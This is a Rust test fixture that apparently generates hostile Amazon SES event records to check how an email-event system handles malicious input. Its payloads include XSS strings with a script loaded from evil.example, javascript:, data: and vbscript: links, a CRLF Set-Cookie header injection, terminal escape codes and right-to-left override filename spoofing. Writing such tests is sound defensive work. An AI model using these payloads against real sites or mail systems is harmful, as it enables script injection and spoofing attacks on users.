//! What nobody would write who means well, in every place where senders and recipients write.

use std::fmt::Write as _;

use serde_json::{Value, json};

/// Ends every kind of element and attribute that it may stand in, and tries to run something.
pub(super) const MARKUP: &str = "</title></script></textarea>--><script src=//evil.example/x.js></script>\
    <script>alert(1)</script><img src=x onerror=alert(2)>\"'><svg/onload=alert(3)>{{7*7}}${7*7}&lt;b&gt;";

/// Hebrew and Arabic, with marks that would turn round what stands after them: overrides, embeddings and isolates
/// that nobody closes.
pub(super) const RIGHT_TO_LEFT: &str =
    "שלום עולם \u{202E}moc.knab\u{202D} مرحبا \u{2067}\u{202B}txt.exe \u{200F}123";

/// Takes no room, or much: zero-width characters, a tower of accents, emoji of several code points, a wide character.
const STRANGE: &str = "a\u{200B}b\u{200D}c\u{FEFF}d\u{2060}e \
    Z\u{0351}\u{036B}\u{0343}\u{036A}\u{0302}\u{036B}\u{033D}\u{034F}\u{0334}\u{0319}\u{0324}\u{031E}\u{0349} \
    👩‍👩‍👧‍👦🏳️‍🌈🇩🇪👍🏽 \u{FDFD} \u{12031} \u{00AD}\u{180E}\u{3164}";

/// Control characters: those of terminals, line ends of all kinds, and one that PostgreSQL can't hold.
const CONTROLS: &str =
    "bell\u{7}escape\u{1B}[31mred\u{8}\u{8}\r\nline\u{B}\u{C}\u{85}\u{2028}\u{2029}\t\u{9B}31m\u{0}end";

const WORD_CHARS: usize = 10_000;
/// As many as a record may name.
const RECIPIENTS: usize = 1_000;
const TAGS: usize = 199;

/// A word without an end.
fn long(letter: char) -> String {
    letter.to_string().repeat(WORD_CHARS)
}

/// For a query or a path.
pub(super) fn encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |mut encoded, byte| {
        write!(encoded, "%{byte:02X}").unwrap();
        encoded
    })
}

/// One kind of hostility, in all places of a mail.
struct Kind {
    id: &'static str,
    text: String,
    address: String,
    link: String,
}

fn kinds() -> Vec<Kind> {
    let kind = |id, text: &str, address: &str, link: &str| Kind {
        id,
        text: text.into(),
        address: address.into(),
        link: link.into(),
    };
    vec![
        kind(
            "markup",
            MARKUP,
            "\"<img src=x onerror=alert(4)>\"@example.com",
            "javascript:alert(document.domain)//https://example.com/",
        ),
        kind(
            "long-words",
            &long('W'),
            &format!("{}@{}.example.com", "m".repeat(900), "w".repeat(900)),
            &format!("https://example.com/{}?q={}", long('l'), "&amp;".repeat(50)),
        ),
        kind(
            "right-to-left",
            RIGHT_TO_LEFT,
            "\u{202E}moc.elpmaxe@\u{202D}enaj@example.com",
            "https://example.com/\u{202E}gpj.exe",
        ),
        kind("strange", STRANGE, "👩‍👧@exa\u{200B}mple.com", "data:text/html,<script>alert(5)</script>"),
        kind(
            "controls",
            CONTROLS,
            "ja\u{7}ne\u{1B}[2J@example.com",
            "https://example.com/\r\nSet-Cookie: a=b",
        ),
        kind("emptiness", " \u{200B} ", "@", "vbscript:msgbox(1)"),
    ]
}

/// Their SES ids, and that of the mail to far too many.
pub(super) fn ids() -> impl Iterator<Item = &'static str> {
    kinds().into_iter().map(|kind| kind.id).chain(["too-many"])
}

/// A record of each type for each kind, a mail with far too many recipients and tags, and messages that can't be read.
pub(super) fn messages() -> Vec<Vec<u8>> {
    let mut messages: Vec<_> = kinds().iter().flat_map(events).chain(too_many()).map(line).collect();
    messages.extend(kinds().iter().map(|kind| line(json!({ "eventType": kind.text, "mail": kind.text }))));
    messages.push(MARKUP.as_bytes().to_vec());
    messages
}

/// The id of a mail that no application has logged, as long as ids may be.
pub(super) fn parked_id() -> String {
    format!("{MARKUP}{RIGHT_TO_LEFT}").chars().chain(std::iter::repeat('w')).take(255).collect()
}

/// Events that wait for it.
pub(super) fn parked() -> Vec<Vec<u8>> {
    let of_one = Kind { id: "parked", text: MARKUP.into(), address: "@".into(), link: String::new() };
    let mut parked: Vec<Value> = events(&of_one).into_iter().take(2).collect();
    for event in &mut parked {
        event["mail"]["messageId"] = parked_id().into();
    }
    // And one of each kind, by an id of that kind.
    for kind in kinds() {
        let mut event = events(&kind).swap_remove(3);
        let id: String = kind.text.chars().filter(|character| *character != '\0').take(200).collect();
        event["mail"]["messageId"] = format!("{id} parked").into();
        parked.push(event);
    }
    parked.into_iter().map(line).collect()
}

#[expect(clippy::needless_pass_by_value, reason = "so that it can be mapped over values")]
fn line(record: Value) -> Vec<u8> {
    // Line ends within strings are escaped.
    record.to_string().into_bytes()
}

fn mail(kind: &Kind, destination: &[String], tags: &Value) -> Value {
    json!({
        "timestamp": "2026-03-10T12:00:00.000Z", "messageId": kind.id, "source": kind.address,
        "sourceIp": kind.text, "callerIdentity": kind.text, "sendingAccountId": kind.text,
        "destination": destination, "headersTruncated": false,
        "headers": [{ "name": kind.text, "value": kind.text }],
        "commonHeaders": {
            "from": [format!("{} <{}>", kind.text, kind.address)], "to": destination, "subject": kind.text,
            "messageId": kind.text,
        },
        "tags": tags,
    })
}

fn events(kind: &Kind) -> Vec<Value> {
    let (text, address) = (&kind.text, &kind.address);
    let mut tags = json!({ "template": [text], "campaign": [text], "ses:configuration-set": [text] });
    tags[text] = json!([text, text]);
    let mail = mail(kind, std::slice::from_ref(address), &tags);
    let at = |second: u32| format!("2026-03-10T12:00:{second:02}.500Z");
    let event = |kind: &str, key: &str, about: Value| json!({ "eventType": kind, "mail": mail, key: about });
    vec![
        event("Send", "send", json!({})),
        event(
            "Delivery",
            "delivery",
            json!({ "timestamp": at(1), "recipients": [address], "smtpResponse": text, "reportingMTA": text,
                "remoteMtaIp": text, "processingTimeMillis": 1 }),
        ),
        event(
            "DeliveryDelay",
            "deliveryDelay",
            json!({ "timestamp": at(2), "delayType": text, "expirationTime": at(50), "reportingMTA": text,
                "delayedRecipients": [{ "emailAddress": address, "status": text, "diagnosticCode": text }] }),
        ),
        event(
            "Bounce",
            "bounce",
            json!({ "timestamp": at(3), "bounceType": "Permanent", "bounceSubType": text, "reportingMTA": text,
                "feedbackId": "bounce", "bouncedRecipients": [{ "emailAddress": address, "action": text,
                "status": text, "diagnosticCode": text }] }),
        ),
        event("Open", "open", json!({ "timestamp": at(4), "ipAddress": text, "userAgent": text })),
        event(
            "Click",
            "click",
            json!({ "timestamp": at(5), "ipAddress": text, "userAgent": text, "link": kind.link,
                "linkTags": { "name": [text] } }),
        ),
        event(
            "Complaint",
            "complaint",
            json!({ "timestamp": at(6), "complainedRecipients": [{ "emailAddress": address }],
                "feedbackId": "complaint", "userAgent": text, "complaintFeedbackType": text,
                "complaintSubType": null }),
        ),
        event("Rendering Failure", "failure", json!({ "templateName": text, "errorMessage": text })),
        event("Reject", "reject", json!({ "reason": text })),
    ]
}

/// A mail to very many with very many tags; some of them bounce, each with words of its own.
fn too_many() -> Vec<Value> {
    let kind = Kind {
        id: "too-many",
        text: "To everybody".into(),
        address: "all@example.com".into(),
        link: String::new(),
    };
    let destination: Vec<String> = (0..RECIPIENTS)
        .map(|number| format!("recipient.number.{number}@some.long.domain.example.com"))
        .collect();
    let tags: Value =
        (0..TAGS).map(|number| (format!("tag-{number}"), json!([format!("value-{number}")]))).collect();
    let mail = mail(&kind, &destination, &tags);
    // Each record names them all, so that a page holds a few of them at most.
    let bounces = destination.chunks(50).take(4).enumerate().map(|(number, some)| {
        let bounced: Vec<_> = some
            .iter()
            .map(|address| json!({ "emailAddress": address, "diagnosticCode": format!("550 no {address}") }))
            .collect();
        json!({ "eventType": "Bounce", "mail": mail, "bounce": {
            "timestamp": format!("2026-03-10T12:01:{number:02}.000Z"), "bounceType": "Permanent",
            "bounceSubType": "General", "feedbackId": number.to_string(), "bouncedRecipients": bounced } })
    });
    std::iter::once(json!({ "eventType": "Send", "mail": mail, "send": {} })).chain(bounces).collect()
}
